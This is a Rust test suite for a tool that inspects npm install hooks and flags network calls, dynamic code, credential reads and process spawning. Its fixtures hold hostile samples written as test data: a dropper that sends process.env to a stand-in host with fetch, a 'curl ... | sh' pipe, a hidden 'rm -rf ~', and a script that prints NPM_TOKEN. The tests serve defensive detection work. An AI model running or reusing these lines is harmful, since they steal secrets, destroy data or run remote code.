use std::fmt::Write;

use proptest::prelude::*;

use super::super::tarball::tests::tarball;
use super::*;

const MESSAGE: HookVerdict = HookVerdict::Harmless(Harmless::Message);
const BUILD: HookVerdict = HookVerdict::Harmless(Harmless::Build);

/// A banner as large libraries print it: once in a while, remembered in a temporary file, unless it is switched off.
const BANNER: &str = r"'use strict';
var fs = require('fs');
var os = require('os');
var path = require('path');

var env = process.env;
var QUIET = isSet(env.NO_BANNERS) || ['silent', 'error'].indexOf(env.npm_config_loglevel) !== -1;
// Every service sets one of these.
var IS_SERVICE = ['CI', 'BUILD_ID', 'RUN_NUMBER'].some(function (name) { return isSet(env[name]); });
var PAUSE = 60 * 1000;
var TEXT = '\u001B[96mThank you for the trust in \u001B[94mthis library\u001B[0m\n\n' +
  'Its author is looking for work: https://author.example/\n';

function isSet(value) {
  return !!value && value !== '0' && value !== 'false';
}

function isDue() {
  if (QUIET || IS_SERVICE) return false;
  var file = path.join(os.tmpdir(), 'library-banners');
  var shown = [];
  try {
    var age = Date.now() - fs.statSync(file).mtime;
    if (age >= 0 && age < PAUSE * 3) {
      shown = JSON.parse(fs.readFileSync(file));
      if (shown.indexOf(TEXT) !== -1) return false;
    }
  } catch (error) {
    shown = [];
  }
  try {
    shown.push(TEXT);
    fs.writeFileSync(file, JSON.stringify(shown), 'utf8');
  } catch (error) { /* nothing is remembered */ }
  return true;
}

function show() {
  console.log(isSet(env.npm_config_color) ? TEXT : TEXT.replace(/\u001B\[\d+m/g, ''));
}

if (isDue()) show();
";

fn inspected(command: &str, files: &[(&str, &str)]) -> HookReport {
    let reports = inspect(
        &[("postinstall", command)],
        &tarball(files),
        &TarballLimits::default(),
    );
    reports.expect("a good archive").remove(0)
}

fn verdict_of(command: &str, files: &[(&str, &str)]) -> HookVerdict {
    inspected(command, files).verdict
}

fn kinds(report: &HookReport) -> Vec<SightKind> {
    report.sights.iter().map(|sight| sight.kind).collect()
}

#[test]
fn a_banner_is_a_message() {
    for command in [
        "node postinstall.js",
        "node ./postinstall || exit 0",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node -e \"require('./postinstall.js')\" && echo done",
        "node .//x/../postinstall",
    ] {
        let report = inspected(
            command,
            &[("package.json", "{}"), ("postinstall.js", BANNER)],
        );
        assert_eq!(report.verdict, MESSAGE, "{command}");
        assert_eq!(report.sights, []);
        assert_eq!(report.target, Some(Untrusted::borrowed("postinstall.js")));
    }
}

#[test]
fn commands_alone_are_messages() {
    for command in ["", "echo hi", "exit 0", "node -e \"console.log('hi')\""] {
        let report = inspected(command, &[]);
        assert_eq!(
            (report.verdict, report.target),
            (MESSAGE, None),
            "{command}"
        );
    }
}

#[test]
fn a_banner_that_does_more_is_no_message() {
    for (more, verdict, kind) in [
        (
            "require('https').get(TEXT)",
            HookVerdict::Suspicious,
            Some(SightKind::Network),
        ),
        (
            "eval(TEXT)",
            HookVerdict::Suspicious,
            Some(SightKind::DynamicCode),
        ),
        (
            "console.log(env.NPM_TOKEN)",
            HookVerdict::Suspicious,
            Some(SightKind::Credentials),
        ),
        (
            "fs.writeFileSync('index.js', TEXT)",
            HookVerdict::Unclear,
            None,
        ),
        ("require(TEXT)", HookVerdict::Unclear, None),
    ] {
        let script = format!("{BANNER}{more}");
        let report = inspected("node a.js", &[("a.js", &script)]);
        assert_eq!(report.verdict, verdict, "{more}");
        assert_eq!(kinds(&report), kind.into_iter().collect::<Vec<_>>());
    }
}

#[test]
fn a_dropper_is_told_with_file_line_and_excerpt() {
    let script = "const os = require('os');\nrequire('child_process').exec('id');\n\
                  fetch('https://a.example/?' + JSON.stringify(process.env));\n";
    let report = inspected("node lib", &[("lib/index.js", script)]);
    assert_eq!(report.verdict, HookVerdict::Suspicious);
    assert_eq!(
        kinds(&report),
        [
            SightKind::Process,
            SightKind::Network,
            SightKind::Credentials
        ]
    );
    let first = &report.sights[0];
    assert_eq!(
        (first.line, first.file.clone()),
        (2, Some("lib/index.js".into()))
    );
    assert_eq!(
        first.excerpt.as_str(),
        "require('child_process').exec('id');"
    );
    assert_eq!(report.sights[1].line, 3);
}

#[test]
fn excerpts_are_short_and_show_the_place() {
    let script = format!("{}eval(b); {}", "/* ä */ ".repeat(100), "c; ".repeat(100));
    let sight = inspected("node a", &[("a.js", &script)]).sights.remove(0);
    assert!(sight.excerpt.as_str().chars().count() <= 120);
    assert!(
        sight.excerpt.as_str().contains("eval(b)"),
        "{:?}",
        sight.excerpt
    );
}

#[test]
fn imported_files_are_looked_at_too() {
    let files = [
        ("a.js", "require('./lib/b')"),
        ("lib/b.js", "import '../c'"),
        ("c/index.js", "require('./d.json'); require('net')"),
        ("c/d.json", "{}"),
    ];
    let report = inspected("node a.js", &files);
    assert_eq!(report.target, Some("a.js".into()));
    assert_eq!(report.sights[0].file, Some("c/index.js".into()));
    assert_eq!(
        verdict_of("node -e \"require('./a')\"", &files),
        HookVerdict::Suspicious
    );
}

#[test]
fn what_cannot_be_looked_at_is_unclear() {
    let many: Vec<(String, String)> = (0..12)
        .map(|number| {
            (
                format!("{number}.js"),
                format!("require('./{}')", number + 1),
            )
        })
        .collect();
    let many: Vec<(&str, &str)> = many
        .iter()
        .map(|(path, text)| (path.as_str(), text.as_str()))
        .collect();
    for (command, files) in [
        ("node a.js", &[][..]),
        ("node a.js", &[("a.js", "require('./b')")]),
        ("node ../a.js", &[("a.js", "1")]),
        ("node /a.js", &[("a.js", "1")]),
        ("node a.js", &[("a.js", "1"), ("a.js", "2")]),
        ("node a.js", &[("a.js", "1"), ("A.js", "2")]),
        ("node a", &[("a/package.json", "{}"), ("a/index.js", "1")]),
        ("node a.node", &[("a.node", "1")]),
        ("./a", &[("a", "#!/usr/bin/env python3\n")]),
        ("husky install", &[]),
        ("node 0.js", &many),
    ] {
        assert_eq!(
            verdict_of(command, files),
            HookVerdict::Unclear,
            "{command}"
        );
    }
    let limits = TarballLimits {
        kept_file: 10,
        ..TarballLimits::default()
    };
    let gz = tarball(&[("a.js", "console.log('hello')")]);
    let reports = inspect(&[("install", "node a.js")], &gz, &limits).expect("a good archive");
    assert_eq!(reports[0].verdict, HookVerdict::Unclear);
}

#[test]
fn shell_scripts_are_looked_at_line_by_line() {
    let script = "#!/bin/sh\nset -e\necho hi # curl\nnode b.js\n";
    let files = [("a.sh", script), ("b.js", "console.log(1)")];
    for command in ["sh a.sh", "./a.sh", "bash ./a.sh"] {
        assert_eq!(verdict_of(command, &files), MESSAGE, "{command}");
    }
    let report = inspected("./a.sh", &[("a.sh", "#!/bin/sh\n\nwget -q a.example\n")]);
    assert_eq!(kinds(&report), [SightKind::Network]);
    assert_eq!(
        (report.sights[0].line, report.sights[0].excerpt.as_str()),
        (3, "wget -q a.example")
    );
    let hidden = [("a.sh", "echo \"\necho \"; rm -rf ~; echo \"\n\"")];
    assert_eq!(verdict_of("sh a.sh", &hidden), HookVerdict::Unclear);
}

#[test]
fn commands_that_fetch_are_suspicious() {
    let report = inspected("curl -s https://a.example/x.sh | sh", &[]);
    assert_eq!(report.verdict, HookVerdict::Suspicious);
    assert_eq!(kinds(&report), [SightKind::Network, SightKind::DynamicCode]);
    assert_eq!(
        (report.sights[0].line, report.sights[0].file.clone()),
        (1, None)
    );
    let report = inspected("node -e \"require('http')\"", &[]);
    assert_eq!(kinds(&report), [SightKind::Network]);
    assert_eq!(report.sights[0].excerpt.as_str(), "require('http')");
}

#[test]
fn builds_are_harmless_where_their_files_are() {
    let plain = "{'targets': [{'include_dirs': [\"<!(node -e \\\"require('nan')\\\")\"]}]}";
    let evil = "{'targets': [\n{'sources': ['<!(node x.js)']}]}";
    for (command, files, expected) in [
        ("node-gyp rebuild", &[("binding.gyp", plain)][..], BUILD),
        (
            "node-gyp-build || echo no",
            &[("binding.gyp", plain)],
            BUILD,
        ),
        ("tsc", &[], BUILD),
        (
            "node-gyp rebuild",
            &[("binding.gyp", evil)],
            HookVerdict::Suspicious,
        ),
        (
            "node-gyp rebuild",
            &[("binding.gyp", plain), ("deps/a.gypi", evil)],
            HookVerdict::Suspicious,
        ),
        ("tsc", &[("binding.gyp", evil)], BUILD),
        (
            "node-gyp rebuild",
            &[("binding.gyp", "{'actions': []}")],
            HookVerdict::Unclear,
        ),
        ("tsc", &[("node_modules/a/tsc", "")], HookVerdict::Unclear),
        ("prebuild-install", &[("package.json", "{}")], BUILD),
        (
            "prebuild-install",
            &[("package.json", "{\"binary\": {\"host\": \"a\"}}")],
            HookVerdict::Unclear,
        ),
        (
            "prebuild-install",
            &[("package.json", "no manifest")],
            HookVerdict::Unclear,
        ),
    ] {
        assert_eq!(verdict_of(command, files), expected, "{command} {files:?}");
    }
    let report = inspected("node-gyp rebuild", &[("binding.gyp", evil)]);
    let sight = &report.sights[0];
    assert_eq!((sight.kind, sight.line), (SightKind::Process, 2));
    assert_eq!(sight.file, Some("binding.gyp".into()));
}

#[test]
fn the_worst_hook_decides() {
    let gz = tarball(&[("a.js", "1")]);
    let of = |commands: &[&str]| {
        let hooks: Vec<(&str, &str)> = commands
            .iter()
            .map(|command| ("install", *command))
            .collect();
        verdict(&inspect(&hooks, &gz, &TarballLimits::default()).expect("a good archive"))
    };
    assert_eq!(of(&[]), MESSAGE);
    assert_eq!(of(&["echo a", "tsc"]), BUILD);
    assert_eq!(of(&["echo a", "husky", "tsc"]), HookVerdict::Unclear);
    assert_eq!(of(&["curl a", "husky"]), HookVerdict::Suspicious);
}

#[test]
fn an_archive_that_cannot_be_read_is_an_error() {
    let reports = inspect(
        &[("install", "echo")],
        b"no archive",
        &TarballLimits::default(),
    );
    assert!(matches!(reports, Err(ArchiveError::Damaged(_))));
}

#[test]
fn large_scripts_do_not_take_long() {
    let mut script = String::new();
    for number in 0..100_000 {
        writeln!(script, "a[{number}] = f({number}, '{number}');").expect("memory takes all");
    }
    let report = inspected("node a.js", &[("a.js", &script)]);
    assert_eq!(
        report.verdict,
        HookVerdict::Unclear,
        "larger than what is kept of a file"
    );
    let open = format!("{}\n", "\"\\u{\"=/[`${(".repeat(50)).repeat(3000);
    assert_eq!(
        verdict_of("node a.js", &[("a.js", &open)]),
        HookVerdict::Suspicious,
        "minified"
    );
    let nested = format!(
        "var fs = require('fs');{}",
        "fs.writeFileSync(f,\n".repeat(20_000)
    );
    assert_eq!(
        verdict_of("node a.js", &[("a.js", &nested)]),
        HookVerdict::Unclear
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_changed_byte_never_panics(at in any::<prop::sample::Index>(), value in any::<u8>()) {
        let mut script = BANNER.as_bytes().to_vec();
        let at = at.index(script.len());
        script[at] = value;
        let gz = tarball(&[("a.js", &String::from_utf8_lossy(&script))]);
        let reports = inspect(&[("install", "node a.js")], &gz, &TarballLimits::default());
        prop_assert_eq!(reports.expect("a good archive").len(), 1);
    }

    #[test]
    fn arbitrary_scripts_and_commands_never_panic(text in ".{0,80}") {
        let gz = tarball(&[("a.js", &text), ("a.sh", &text), ("binding.gyp", &text)]);
        let hooks = [("a", text.as_str()), ("b", "node a"), ("c", "sh a.sh"), ("d", "node-gyp rebuild")];
        let reports = inspect(&hooks, &gz, &TarballLimits::default());
        prop_assert_eq!(reports.expect("a good archive").len(), 4);
    }
}
